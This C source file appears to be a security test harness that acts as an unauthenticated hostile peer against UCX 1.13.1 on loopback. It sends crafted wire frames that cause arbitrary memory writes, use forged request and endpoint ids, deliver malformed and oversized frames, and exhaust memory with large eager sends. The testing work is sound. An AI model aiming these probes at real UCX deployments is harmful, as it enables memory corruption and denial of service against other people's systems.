/*
 * Copyright (c) 2026 ucx-ifunc authors. See LICENSE for terms.
 *
 * A hostile network peer without any key, against a UCX process on this
 * host (test/attack/am_only_target), to show what UCX 1.13.1's own wire
 * code lets such a peer do (docs/security.md, "What UCX itself lets a
 * network peer do"; docs/known-issues.md has each as a bug report). It
 * speaks UCT TCP's and the TCP sockaddr connection manager's wire formats
 * over raw sockets, and UCP's public API where a real connection is
 * needed first. It connects to 127.0.0.1 only: the only address a
 * subcommand takes is a port.
 *
 *     ucx_wire_probe put IFACE_PORT ADDRESS [VALUE]
 *         a UCT TCP PUT request (AM id 33) writing 8 bytes at ADDRESS
 *     ucx_wire_probe put-before-conn IFACE_PORT [ADDRESS]
 *         the same PUT before any connection request
 *     ucx_wire_probe long-frame IFACE_PORT
 *         a frame header announcing more than a receive segment
 *     ucx_wire_probe ats IFACE_PORT [REQUEST_ID]
 *     ucx_wire_probe rtr IFACE_PORT [REQUEST_ID]
 *         a rendezvous ATS or RTR naming a request id with bit 0 clear
 *     ucx_wire_probe am-first-ep IFACE_PORT [EP_ID]
 *         a first AM fragment naming an endpoint id with bit 0 clear
 *     ucx_wire_probe am-middle IFACE_PORT LISTEN_PORT [OFFSET]
 *         connects by UCP (so the target has an endpoint), then a first AM
 *         fragment of a 64-byte message and a middle fragment at OFFSET
 *         for each of the first guessable endpoint ids
 *     ucx_wire_probe sockaddr-v6 LISTEN_PORT
 *         connection private data whose worker address says version 6
 *     ucx_wire_probe eager LISTEN_PORT [PEERS [MIB]]
 *         PEERS endpoints (3) each send one MIB-MiB (64) active message
 *         with UCP_AM_SEND_FLAG_EAGER, from untouched zero pages
 *
 * Exit status: 0 when the probe sent what it meant to, 1 when it could not
 * (the target refused or was gone before), 2 for a usage error. Whether the
 * target survived is for the caller to see (test/attack/run.sh).
 */
#define _GNU_SOURCE
#include <ucp/api/ucp.h>

#include <arpa/inet.h>
#include <errno.h>
#include <inttypes.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

/* --- wire formats of UCX 1.13.1 (read from its source, cited per item) --- */

/* src/uct/tcp/tcp.h: UCT_TCP_MAGIC_NUMBER, sent first on a connection. */
#define UCT_TCP_MAGIC 0xCAFEBABE12345678ull
/* src/uct/tcp/tcp.h, uct_tcp_ep_am_id_t: ids after UCT_AM_ID_MAX (32). */
#define UCT_TCP_AM_ID_CM 32
#define UCT_TCP_AM_ID_PUT_REQ 33
/* uct_tcp_cm_conn_event_t: UCT_TCP_CM_CONN_REQ. */
#define UCT_TCP_CM_CONN_REQ 1
/* src/uct/tcp/tcp_iface.c: RX_SEG_SIZE default 64 KiB, plus the frame
 * header: a frame announcing 1 MiB is longer than any segment. */
#define LONG_FRAME_LENGTH (1u << 20)
/* src/ucp/core/ucp_types.h, ucp_am_id. */
#define UCP_AM_ID_RNDV_ATS 10
#define UCP_AM_ID_RNDV_RTR 11
#define UCP_AM_ID_AM_FIRST 24
#define UCP_AM_ID_AM_MIDDLE 25
/* src/ucp/core/ucp_ep.h: sa_data header, version in the 3 high bits. */
#define UCP_SA_DATA_VERSION_SHIFT 5
#define UCP_OBJECT_VERSION_V2 1

/* A canonical address that nothing maps: where a forged id points. */
#define UNMAPPED_ADDRESS 0x0000100000000000ull

/* uct_tcp_am_hdr_t: every frame on a UCT TCP connection. */
struct tcp_am_hdr {
    uint8_t  am_id;
    uint32_t length;
} __attribute__((packed));

/* uct_tcp_cm_conn_req_pkt_t, then the sender's sockaddr. */
struct tcp_conn_req {
    uint32_t           event;
    uint8_t            flags;
    uint64_t           conn_sn;
    struct sockaddr_in address;
} __attribute__((packed));

/* uct_tcp_ep_put_req_hdr_t; the data follows the frame on the stream. */
struct tcp_put_req {
    uint64_t address;
    uint64_t length;
    uint32_t sn;
} __attribute__((packed));

/* ucp_reply_hdr_t (src/ucp/proto/proto_am.h): ATS. */
struct ucp_reply_hdr {
    uint64_t req_id;
    int8_t   status;
} __attribute__((packed));

/* ucp_rndv_rtr_hdr_t (src/ucp/rndv/rndv.h). */
struct ucp_rtr_hdr {
    uint64_t sreq_id;
    uint64_t rreq_id;
    uint64_t address;
    uint64_t size;
    uint64_t offset;
} __attribute__((packed));

/* src/ucp/core/ucp_am.h: ucp_am_hdr_t, ucp_am_first_ftr_t,
 * ucp_am_mid_hdr_t, ucp_am_mid_ftr_t. */
struct ucp_am_hdr {
    uint16_t am_id;
    uint16_t flags;
    uint32_t header_length;
} __attribute__((packed));

struct ucp_am_first_frag {
    struct ucp_am_hdr hdr;
    uint64_t          payload;
    uint64_t          msg_id; /* ucp_am_first_ftr_t */
    uint64_t          ep_id;
    uint64_t          total_size;
} __attribute__((packed));

struct ucp_am_mid_frag {
    uint64_t offset; /* ucp_am_mid_hdr_t */
    uint64_t payload;
    uint64_t msg_id; /* ucp_am_mid_ftr_t */
    uint64_t ep_id;
} __attribute__((packed));

/* uct_tcp_sockcm_priv_data_hdr_t (not packed: 16 bytes), then the
 * private data: ucp_wireup_sockaddr_data_base_t and a worker address. */
struct sockcm_hdr {
    uint64_t length;
    uint8_t  status;
    uint8_t  padding[7];
};

struct sa_data {
    uint64_t ep_id;
    uint8_t  header;
    uint8_t  address[32]; /* first byte: the address version (low 4 bits) */
} __attribute__((packed));

/* --- raw loopback connections ------------------------------------------ */

static int connect_loopback(unsigned port)
{
    struct sockaddr_in address;
    int                fd, one = 1;

    fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0) {
        perror("socket");
        return -1;
    }
    memset(&address, 0, sizeof(address));
    address.sin_family      = AF_INET;
    address.sin_port        = htons((uint16_t)port);
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (connect(fd, (struct sockaddr *)&address, sizeof(address)) != 0) {
        fprintf(stderr, "connect 127.0.0.1:%u: %s\n", port, strerror(errno));
        close(fd);
        return -1;
    }
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
    return fd;
}

static int send_all(int fd, const void *data, size_t length)
{
    const char *bytes = data;
    ssize_t     sent;

    while (length > 0) {
        sent = send(fd, bytes, length, MSG_NOSIGNAL);
        if (sent < 0 && errno == EINTR) {
            continue;
        }
        if (sent <= 0) {
            fprintf(stderr, "send: %s\n", strerror(errno));
            return -1;
        }
        bytes += sent;
        length -= (size_t)sent;
    }
    return 0;
}

static int send_frame(int fd, uint8_t am_id, const void *payload,
                      uint32_t length)
{
    struct tcp_am_hdr hdr = {am_id, length};

    if (send_all(fd, &hdr, sizeof(hdr)) != 0) {
        return -1;
    }
    return send_all(fd, payload, length);
}

/* Reads what the target sends for up to timeout_ms; the number of bytes,
 * or -1 once the target closed the connection. */
static long drain(int fd, int timeout_ms)
{
    struct pollfd pfd = {fd, POLLIN, 0};
    char          buffer[4096];
    long          total = 0;
    ssize_t       got;

    while (poll(&pfd, 1, timeout_ms) > 0) {
        got = recv(fd, buffer, sizeof(buffer), 0);
        if (got <= 0) {
            return -1;
        }
        total += got;
    }
    return total;
}

/* Connects to a UCT TCP iface as UCT does: the magic number, then (with
 * conn_req) a connection request naming this socket's own address. */
static int open_tcp_iface(unsigned port, int conn_req)
{
    uint64_t            magic = UCT_TCP_MAGIC;
    struct tcp_conn_req req;
    socklen_t           length;
    int                 fd;

    fd = connect_loopback(port);
    if (fd < 0) {
        return -1;
    }
    if (send_all(fd, &magic, sizeof(magic)) != 0) {
        goto err;
    }
    if (!conn_req) {
        return fd;
    }
    memset(&req, 0, sizeof(req));
    length      = sizeof(req.address);
    req.event   = UCT_TCP_CM_CONN_REQ;
    req.conn_sn = ((uint64_t)getpid() << 32) | (uint64_t)time(NULL);
    if (getsockname(fd, (struct sockaddr *)&req.address, &length) != 0 ||
        send_frame(fd, UCT_TCP_AM_ID_CM, &req, sizeof(req)) != 0) {
        goto err;
    }
    /* The target answers with a connection acknowledgement. */
    drain(fd, 200);
    return fd;

err:
    close(fd);
    return -1;
}

/* Leaves the connection open a moment, so the target handles what was
 * sent while the peer is still there, and reports whether it hung up. */
static int finish(int fd, const char *what)
{
    long got = drain(fd, 500);

    printf("%s: sent; target %s\n", what,
           got < 0 ? "closed the connection" : "kept the connection");
    close(fd);
    return 0;
}

/* --- the probes on UCT TCP --------------------------------------------- */

static int probe_put(unsigned port, uint64_t address, uint64_t value,
                     int conn_req)
{
    /* One send: the target then finds the data in the segment it received
     * the request in and copies it with memcpy (uct_tcp_ep_handle_put_req).
     * Data arriving later is received straight into the address, where the
     * kernel refuses an unmapped one (EFAULT) instead of faulting. */
    struct {
        struct tcp_am_hdr  hdr;
        struct tcp_put_req put;
        uint64_t           value;
    } __attribute__((packed))
    message = {{UCT_TCP_AM_ID_PUT_REQ, sizeof(struct tcp_put_req)},
               {address, sizeof(value), 1},
               value};
    int fd;

    fd = open_tcp_iface(port, conn_req);
    if (fd < 0) {
        return 1;
    }
    if (send_all(fd, &message, sizeof(message)) != 0) {
        close(fd);
        return 1;
    }
    printf("put 0x%016" PRIx64 " to 0x%" PRIx64 "%s\n", value, address,
           conn_req ? "" : " before the connection request");
    return finish(fd, conn_req ? "put" : "put-before-conn");
}

static int probe_long_frame(unsigned port)
{
    struct tcp_am_hdr hdr = {0, LONG_FRAME_LENGTH};
    int               fd;

    fd = open_tcp_iface(port, 1);
    if (fd < 0) {
        return 1;
    }
    if (send_all(fd, &hdr, sizeof(hdr)) != 0) {
        close(fd);
        return 1;
    }
    return finish(fd, "long-frame");
}

static int probe_rndv(unsigned port, uint8_t am_id, uint64_t request_id)
{
    struct ucp_reply_hdr ats = {request_id, 0};
    struct ucp_rtr_hdr   rtr = {request_id, request_id, 0, 0, 0};
    int                  fd, status;

    fd = open_tcp_iface(port, 1);
    if (fd < 0) {
        return 1;
    }
    if (am_id == UCP_AM_ID_RNDV_ATS) {
        status = send_frame(fd, am_id, &ats, sizeof(ats));
    } else {
        status = send_frame(fd, am_id, &rtr, sizeof(rtr));
    }
    if (status != 0) {
        close(fd);
        return 1;
    }
    return finish(fd, am_id == UCP_AM_ID_RNDV_ATS ? "ats" : "rtr");
}

static struct ucp_am_first_frag first_fragment(uint64_t ep_id, uint64_t msg_id,
                                               uint64_t total_size)
{
    struct ucp_am_first_frag frag;

    memset(&frag, 0, sizeof(frag));
    frag.payload    = 0x4141414141414141ull;
    frag.msg_id     = msg_id;
    frag.ep_id      = ep_id;
    frag.total_size = total_size;
    return frag;
}

static int probe_am_first_ep(unsigned port, uint64_t ep_id)
{
    struct ucp_am_first_frag frag = first_fragment(ep_id, 1, 64);
    int                      fd;

    fd = open_tcp_iface(port, 1);
    if (fd < 0) {
        return 1;
    }
    if (send_frame(fd, UCP_AM_ID_AM_FIRST, &frag, sizeof(frag)) != 0) {
        close(fd);
        return 1;
    }
    return finish(fd, "am-first-ep");
}

/* --- probes that need a UCP connection first --------------------------- */

struct client {
    ucp_context_h context;
    ucp_worker_h  worker;
    ucp_ep_h      eps[64];
    unsigned      ep_count;
};

static void on_client_error(void *arg, ucp_ep_h ep, ucs_status_t status)
{
    (void)arg;
    (void)ep;
    fprintf(stderr, "endpoint error: %s\n", ucs_status_string(status));
}

/* A UCP client over TCP on loopback only, the transport a network peer
 * chooses. */
static int client_open(struct client *client)
{
    ucp_worker_params_t worker_params;
    ucp_config_t       *config;
    ucp_params_t        params;
    ucs_status_t        status;

    memset(client, 0, sizeof(*client));
    if (ucp_config_read(NULL, NULL, &config) != UCS_OK) {
        return -1;
    }
    ucp_config_modify(config, "TLS", "tcp");
    ucp_config_modify(config, "NET_DEVICES", "lo");
    memset(&params, 0, sizeof(params));
    params.field_mask = UCP_PARAM_FIELD_FEATURES;
    params.features   = UCP_FEATURE_AM;
    status            = ucp_init(&params, config, &client->context);
    ucp_config_release(config);
    if (status != UCS_OK) {
        return -1;
    }
    memset(&worker_params, 0, sizeof(worker_params));
    worker_params.field_mask  = UCP_WORKER_PARAM_FIELD_THREAD_MODE;
    worker_params.thread_mode = UCS_THREAD_MODE_SINGLE;
    if (ucp_worker_create(client->context, &worker_params, &client->worker) !=
        UCS_OK) {
        ucp_cleanup(client->context);
        return -1;
    }
    return 0;
}

/* Waits for a request, progressing, for up to seconds; its status. */
static ucs_status_t client_wait(struct client *client, void *request,
                                double seconds)
{
    struct timespec start, now;
    ucs_status_t    status;

    if (!UCS_PTR_IS_PTR(request)) {
        return UCS_PTR_STATUS(request);
    }
    clock_gettime(CLOCK_MONOTONIC, &start);
    for (;;) {
        ucp_worker_progress(client->worker);
        status = ucp_request_check_status(request);
        if (status != UCS_INPROGRESS) {
            break;
        }
        clock_gettime(CLOCK_MONOTONIC, &now);
        if ((double)(now.tv_sec - start.tv_sec) +
                    (double)(now.tv_nsec - start.tv_nsec) * 1e-9 >
            seconds) {
            status = UCS_ERR_TIMED_OUT;
            ucp_request_cancel(client->worker, request);
            break;
        }
    }
    ucp_request_free(request);
    return status;
}

static int client_connect(struct client *client, unsigned port)
{
    ucp_request_param_t flush_param;
    struct sockaddr_in  address;
    ucp_ep_params_t     params;
    ucp_ep_h            ep;

    memset(&address, 0, sizeof(address));
    address.sin_family      = AF_INET;
    address.sin_port        = htons((uint16_t)port);
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    memset(&params, 0, sizeof(params));
    params.field_mask = UCP_EP_PARAM_FIELD_FLAGS |
                        UCP_EP_PARAM_FIELD_SOCK_ADDR |
                        UCP_EP_PARAM_FIELD_ERR_HANDLING_MODE |
                        UCP_EP_PARAM_FIELD_ERR_HANDLER;
    params.flags            = UCP_EP_PARAMS_FLAGS_CLIENT_SERVER;
    params.sockaddr.addr    = (const struct sockaddr *)&address;
    params.sockaddr.addrlen = sizeof(address);
    params.err_mode         = UCP_ERR_HANDLING_MODE_PEER;
    params.err_handler.cb   = on_client_error;
    if (client->ep_count == sizeof(client->eps) / sizeof(client->eps[0]) ||
        ucp_ep_create(client->worker, &params, &ep) != UCS_OK) {
        return -1;
    }
    client->eps[client->ep_count++] = ep;
    /* A flush completes once the connection is up. */
    memset(&flush_param, 0, sizeof(flush_param));
    if (client_wait(client, ucp_ep_flush_nbx(ep, &flush_param), 10.0) !=
        UCS_OK) {
        fprintf(stderr, "no UCP connection to 127.0.0.1:%u\n", port);
        return -1;
    }
    return 0;
}

static void client_linger(struct client *client, double seconds)
{
    struct timespec start, now;

    clock_gettime(CLOCK_MONOTONIC, &start);
    do {
        ucp_worker_progress(client->worker);
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while ((double)(now.tv_sec - start.tv_sec) +
                     (double)(now.tv_nsec - start.tv_nsec) * 1e-9 <
             seconds);
}

static void client_close(struct client *client)
{
    ucp_request_param_t param;
    unsigned            i;

    memset(&param, 0, sizeof(param));
    param.op_attr_mask = UCP_OP_ATTR_FIELD_FLAGS;
    param.flags        = UCP_EP_CLOSE_FLAG_FORCE;
    for (i = 0; i < client->ep_count; ++i) {
        client_wait(client, ucp_ep_close_nbx(client->eps[i], &param), 2.0);
    }
    ucp_worker_destroy(client->worker);
    ucp_cleanup(client->context);
}

/* The target's endpoint ids are keys of a pointer map when the endpoint
 * has error handling: 3, 5, 7, ... in creation order (ucs_ptr_map). */
#define GUESSED_EP_IDS 32

static int probe_am_middle(unsigned iface_port, unsigned listen_port,
                           uint64_t offset)
{
    struct ucp_am_first_frag first;
    struct ucp_am_mid_frag   middle;
    struct client            client;
    uint64_t                 ep_id;
    unsigned                 i;
    int                      fd;

    if (client_open(&client) != 0 || client_connect(&client, listen_port)) {
        return 1;
    }
    fd = open_tcp_iface(iface_port, 1);
    if (fd < 0) {
        client_close(&client);
        return 1;
    }
    for (i = 0; i < GUESSED_EP_IDS; ++i) {
        ep_id = 3 + 2 * (uint64_t)i;
        first = first_fragment(ep_id, 0x1000 + ep_id, 64);
        if (send_frame(fd, UCP_AM_ID_AM_FIRST, &first, sizeof(first)) != 0) {
            break;
        }
    }
    for (i = 0; i < GUESSED_EP_IDS; ++i) {
        ep_id          = 3 + 2 * (uint64_t)i;
        middle.offset  = offset;
        middle.payload = 0x4242424242424242ull;
        middle.msg_id  = 0x1000 + ep_id;
        middle.ep_id   = ep_id;
        if (send_frame(fd, UCP_AM_ID_AM_MIDDLE, &middle, sizeof(middle)) != 0) {
            break;
        }
    }
    printf("am-middle: 64-byte messages, 8 bytes at offset 0x%" PRIx64
           " for endpoint ids 3..%u\n",
           offset, 3 + 2 * (GUESSED_EP_IDS - 1));
    finish(fd, "am-middle");
    client_close(&client);
    return 0;
}

static int probe_eager(unsigned listen_port, unsigned peers, size_t mib)
{
    size_t              size = mib << 20;
    ucp_request_param_t param;
    struct client       client;
    void               *requests[64];
    ucs_status_t        status;
    unsigned            i, done = 0;
    void               *buffer;

    if (peers == 0 || peers > 64 || mib == 0 || mib > 4096) {
        fprintf(stderr, "eager: 1-64 peers of 1-4096 MiB\n");
        return 2;
    }
    /* Untouched anonymous pages: zeros, costing this process nothing. */
    buffer = mmap(NULL, size, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (buffer == MAP_FAILED) {
        perror("mmap");
        return 1;
    }
    if (client_open(&client) != 0) {
        return 1;
    }
    for (i = 0; i < peers; ++i) {
        if (client_connect(&client, listen_port) != 0) {
            client_close(&client);
            return 1;
        }
    }
    memset(&param, 0, sizeof(param));
    param.op_attr_mask = UCP_OP_ATTR_FIELD_FLAGS;
    param.flags        = UCP_AM_SEND_FLAG_EAGER;
    for (i = 0; i < peers; ++i) {
        requests[i] = ucp_am_send_nbx(client.eps[i], 0, NULL, 0, buffer, size,
                                      &param);
    }
    for (i = 0; i < peers; ++i) {
        status = client_wait(&client, requests[i], 120.0);
        done += (status == UCS_OK);
    }
    printf("eager: %u of %u messages of %zu MiB sent\n", done, peers, mib);
    /* A send completes once UCT holds its data; stay a moment, so the
     * connections deliver it before they close. */
    client_linger(&client, 2.0);
    client_close(&client);
    munmap(buffer, size);
    return done == peers ? 0 : 1;
}

/* --- the sockaddr connection manager ----------------------------------- */

static int probe_sockaddr_v6(unsigned listen_port)
{
    struct {
        struct sockcm_hdr hdr;
        struct sa_data    data;
    } __attribute__((packed)) message;
    int fd;

    memset(&message, 0, sizeof(message));
    message.hdr.length  = sizeof(message.data);
    message.data.ep_id  = 3;
    message.data.header = UCP_OBJECT_VERSION_V2 << UCP_SA_DATA_VERSION_SHIFT;
    message.data.address[0] = 6; /* worker address version 6 */
    fd                      = connect_loopback(listen_port);
    if (fd < 0) {
        return 1;
    }
    if (send_all(fd, &message, sizeof(message)) != 0) {
        close(fd);
        return 1;
    }
    return finish(fd, "sockaddr-v6");
}

/* --- command line -------------------------------------------------------- */

static int parse_u64(const char *text, uint64_t *value)
{
    char *end;

    errno  = 0;
    *value = strtoull(text, &end, 0);
    return (errno != 0 || *end != '\0') ? -1 : 0;
}

static int parse_port(const char *text, unsigned *port)
{
    uint64_t value;

    if (parse_u64(text, &value) != 0 || value == 0 || value > 65535) {
        fprintf(stderr, "not a port: %s\n", text);
        return -1;
    }
    *port = (unsigned)value;
    return 0;
}

static int usage(const char *program)
{
    fprintf(stderr,
            "usage: %s put IFACE_PORT ADDRESS [VALUE]\n"
            "       %s put-before-conn IFACE_PORT [ADDRESS]\n"
            "       %s long-frame IFACE_PORT\n"
            "       %s ats|rtr|am-first-ep IFACE_PORT [ID]\n"
            "       %s am-middle IFACE_PORT LISTEN_PORT [OFFSET]\n"
            "       %s sockaddr-v6 LISTEN_PORT\n"
            "       %s eager LISTEN_PORT [PEERS [MIB]]\n"
            "(all on 127.0.0.1)\n",
            program, program, program, program, program, program, program);
    return 2;
}

int main(int argc, char **argv)
{
    uint64_t    value = 0x5a5a5a5a5a5a5a5aull, number = UNMAPPED_ADDRESS;
    uint64_t    peers = 3, mib = 64, offset = 1ull << 32;
    const char *command;
    unsigned    port, port2;

    if (argc < 3 || parse_port(argv[2], &port) != 0) {
        return usage(argv[0]);
    }
    command = argv[1];
    setvbuf(stdout, NULL, _IOLBF, 0);

    if (!strcmp(command, "put") && (argc == 4 || argc == 5)) {
        if (parse_u64(argv[3], &number) != 0 ||
            (argc == 5 && parse_u64(argv[4], &value) != 0)) {
            return usage(argv[0]);
        }
        return probe_put(port, number, value, 1);
    }
    if (!strcmp(command, "put-before-conn") && argc <= 4) {
        if (argc == 4 && parse_u64(argv[3], &number) != 0) {
            return usage(argv[0]);
        }
        return probe_put(port, number, value, 0);
    }
    if (!strcmp(command, "long-frame") && argc == 3) {
        return probe_long_frame(port);
    }
    if ((!strcmp(command, "ats") || !strcmp(command, "rtr") ||
         !strcmp(command, "am-first-ep")) &&
        argc <= 4) {
        if (argc == 4 && parse_u64(argv[3], &number) != 0) {
            return usage(argv[0]);
        }
        if (!strcmp(command, "am-first-ep")) {
            return probe_am_first_ep(port, number);
        }
        return probe_rndv(port,
                          !strcmp(command, "ats") ? UCP_AM_ID_RNDV_ATS
                                                  : UCP_AM_ID_RNDV_RTR,
                          number);
    }
    if (!strcmp(command, "am-middle") && (argc == 4 || argc == 5)) {
        if (parse_port(argv[3], &port2) != 0 ||
            (argc == 5 && parse_u64(argv[4], &offset) != 0)) {
            return usage(argv[0]);
        }
        return probe_am_middle(port, port2, offset);
    }
    if (!strcmp(command, "sockaddr-v6") && argc == 3) {
        return probe_sockaddr_v6(port);
    }
    if (!strcmp(command, "eager") && argc <= 5) {
        if ((argc >= 4 && parse_u64(argv[3], &peers) != 0) ||
            (argc == 5 && parse_u64(argv[4], &mib) != 0) || peers > 64 ||
            mib > 4096) {
            return usage(argv[0]);
        }
        return probe_eager(port, (unsigned)peers, (size_t)mib);
    }
    return usage(argv[0]);
}
